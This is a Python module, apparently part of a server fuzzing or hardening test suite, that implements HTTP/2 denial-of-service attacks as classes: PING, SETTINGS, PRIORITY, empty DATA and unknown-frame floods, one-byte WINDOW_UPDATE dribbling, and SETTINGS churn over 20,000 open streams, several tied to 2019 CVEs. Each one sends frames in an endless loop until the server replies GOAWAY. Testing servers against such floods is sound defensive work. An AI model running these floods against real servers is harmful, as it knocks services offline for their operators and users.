"""Frames that cost nothing to send, and each make the server do, answer or remember something."""

from __future__ import annotations

import struct
from collections.abc import Sequence
from typing import ClassVar, Final

from fuzz.attacks.attack import Attack
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import (
    END_HEADERS,
    Kind,
    frame,
    framed,
    greeting,
    infer_message,
    request_block,
    settings,
    unary,
    window_update,
)

__all__ = [
    "EmptyData",
    "PingFlood",
    "PriorityFlood",
    "SettingsFlood",
    "SettingsOverStreams",
    "UnknownFrames",
    "WindowDribble",
    "WindowUpdates",
]

_AT_ONCE: Final = 500
_BLOCK: Final = request_block()


class _Flood(Attack):
    """The same frames over and over, after an opening."""

    opening: ClassVar[bytes] = greeting()
    frames: ClassVar[bytes]
    stops: ClassVar[Sequence[str]] = ("GOAWAY ENHANCE_YOUR_CALM",)

    async def strike(self, peer: Peer) -> None:
        await peer.send(self.opening)
        flood = self.frames * _AT_ONCE
        while True:
            await peer.send(flood, _AT_ONCE)


class PingFlood(_Flood):
    """PINGs, each of which is answered."""

    name = "ping-flood"
    cve = "CVE-2019-9512"
    summary = "PINGs, whose answers are not waited for"
    limit = "1,000 at once, 200 a second and one per call"
    frames = frame(Kind.PING, 0, 0, b"flooding")


class SettingsFlood(_Flood):
    """Empty SETTINGS, each of which is acknowledged."""

    name = "settings-flood"
    cve = "CVE-2019-9515"
    summary = "SETTINGS, each of which has to be acknowledged"
    limit = "100 at once, 10 a second"
    frames = settings()


class EmptyData(_Flood):
    """DATA without a byte, which flow control does not count."""

    name = "empty-data"
    cve = "CVE-2019-9518"
    summary = "DATA frames without a byte in them, which no window counts"
    limit = "100 at once, 10 a second"
    opening = greeting() + frame(Kind.HEADERS, END_HEADERS, 1, _BLOCK)
    frames = frame(Kind.DATA, 0, 1, b"")


class PriorityFlood(_Flood):
    """PRIORITY, by which other servers rebuild a tree."""

    name = "priority-flood"
    cve = "CVE-2019-9513"
    summary = "PRIORITY frames, by which other servers rebuild a tree of streams"
    limit = "1,000 at once, 100 a second and one per call"
    frames = frame(Kind.PRIORITY, 0, 3, struct.pack(">IB", 5, 15))


class UnknownFrames(_Flood):
    """Frames of a type that nobody knows, which are to be ignored."""

    name = "unknown-frames"
    summary = "empty frames of an unknown type"
    limit = "1,000 at once, 100 a second and one per call"
    frames = frame(0xFA, 0, 1, b"")


class WindowUpdates(_Flood):
    """Credit for the connection, one byte at a time."""

    name = "window-updates"
    summary = "WINDOW_UPDATEs of one byte for the connection"
    limit = "none of its own where nothing waits for window: they cost 0.3 us each, and reads are kept short"
    stops: ClassVar[Sequence[str]] = ()
    opening = greeting(connection_window=65_535)  # or the credit would soon be too much, which is an error
    frames = window_update(0, 1)


class WindowDribble(Attack):
    """A large answer, taken a byte at a time, a frame for each."""

    name = "data-dribble"
    cve = "CVE-2019-9511"
    summary = "answers of 256 KiB, credit for them a byte at a time, so that each byte is a DATA frame"
    limit = "10,000 WINDOW_UPDATEs at once, 2,000 a second and four per call, where answers wait for window"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting(stream_window=0))
        body = framed(infer_message("generator", [1], struct.pack("<q", 65_536), "INT64"))
        await peer.send(unary(1, _BLOCK, body), 1)
        while not peer.answered:
            await peer.send(window_update(1, 1) * 100, 100)


class SettingsOverStreams(Attack):
    """Thousands of calls that wait, and SETTINGS that change the window of all of them each time."""

    name = "settings-over-streams"
    summary = "20,000 calls left open, and SETTINGS that change the windows of all of them each time"
    limit = "100 SETTINGS at once, 10 a second"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)
    connections = 1
    _streams: ClassVar = 20_000

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        for first in range(1, 2 * self._streams, 2_000):
            await peer.send(
                b"".join(
                    frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK) for stream_id in range(first, first + 2_000, 2)
                )
            )
        initial_window_size = 4
        flood = (settings((initial_window_size, 1_000)) + settings((initial_window_size, 2_000))) * 10
        while True:
            await peer.send(flood, 20)
